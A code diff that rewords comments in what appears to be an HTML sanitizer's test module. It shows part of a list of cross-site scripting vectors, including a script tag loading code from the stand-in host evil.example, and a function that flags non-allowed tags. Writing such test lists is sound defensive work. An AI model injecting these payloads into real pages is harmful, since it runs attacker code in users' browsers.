@@ -1,4 +1,4 @@
-/** Known ways to smuggle a script, a style or a request into a text that is shown as HTML. None may do anything anywhere. */
+/** Known ways to smuggle a script, a style or a request into text that is shown as HTML. None of them may have any effect. */
 export const xssVectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
@@ -83,7 +83,7 @@ export const xssVectors: readonly string[] = [
 const allowedTags = ['P', 'H1', 'H2', 'H3', 'STRONG', 'EM', 'U', 'S', 'A', 'UL', 'OL', 'LI', 'BR'];
 const allowedStyle = /^(?:\s*(?:text-align:\s*(?:left|center|right|justify)|padding-left:\s*(?:2|4|6|8|10|12|14|16)em)\s*;?)*$/;
 
-/** What of some HTML, as a browser reads it, is more than formatted text. */
+/** Everything in an HTML tree, as a browser parses it, that is more than formatted text. */
 export function harmIn(root: ParentNode): string[] {
   return [...root.querySelectorAll('*')].flatMap((element) => {
     if (!allowedTags.includes(element.tagName)) return [`<${element.tagName}>`];
